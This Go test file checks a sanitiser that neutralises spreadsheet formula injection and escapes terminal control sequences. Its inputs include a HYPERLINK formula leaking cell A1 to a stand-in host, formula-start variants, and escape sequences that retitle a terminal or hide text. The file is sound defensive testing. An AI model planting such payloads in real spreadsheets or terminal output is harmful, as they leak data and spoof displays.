package safetext_test

import (
	"testing"

	"github.com/exopartner/exopartner/internal/safetext"
)

// TestCell: OWASP's formula starts are neutralised, nothing else changes.
func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x.example/?leak="&A1,"x")`: `'=HYPERLINK("http://x.example/?leak="&A1,"x")`,
		"@SUM(A1:A9)":  "'@SUM(A1:A9)",
		"+1+1":         "'+1+1",
		"-2+3":         "'-2+3",
		"=1+1":         "'=1+1",
		"\t=1+1":       "'\t=1+1",
		"\r=1+1":       "'\r=1+1",
		"":             "",
		"ACME":         "ACME",
		"a=b":          "a=b",
		" =1":          " =1",
		"'already":     "'already",
		"Zürich":       "Zürich",
		"crm-3":        "crm-3",
		"1234.50":      "1234.50",
		"\x1b[2Kabc":   "\x1b[2Kabc", // a terminal's concern, not a spreadsheet's
		"2025-01-01Z":  "2025-01-01Z",
		"ok\n=formula": "ok\n=formula",
	} {
		if got := safetext.Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestTerminal: control and invisible characters and stray bytes come out
// as escapes; printable text, accents included, is untouched.
func TestTerminal(t *testing.T) {
	for in, want := range map[string]string{
		"ACME":                          "ACME",
		"Zürich – Genève ✓":             "Zürich – Genève ✓",
		"\x1b]0;pwned\x07\x1b[2K\rACME": `\x1b]0;pwned\a\x1b[2K\rACME`,
		"a\tb\nc":                       `a\tb\nc`,
		"\u009b31m":                     `\u009b31m`,
		"Z\xfcrich":                     `Z\xfcrich`,
		"crm-3\u200b":                   `crm-3\u200b`,
		"abc\u202edef":                  `abc\u202edef`,
		"\x7f":                          `\x7f`,
		"line\u2028sep":                 `line\u2028sep`,
		"":                              "",
	} {
		if got := safetext.Terminal(in); got != want {
			t.Errorf("Terminal(%q) = %q, want %q", in, got, want)
		}
	}
	if got, want := safetext.Message("first\nsecond \x1b[31mred\r"), "first\nsecond \\x1b[31mred\\r"; got != want {
		t.Errorf("Message = %q, want %q", got, want)
	}
	if n := testing.AllocsPerRun(100, func() { safetext.Terminal("plain ASCII and Zürich") }); n != 0 {
		t.Errorf("%v allocations for clean text, want 0", n)
	}
}
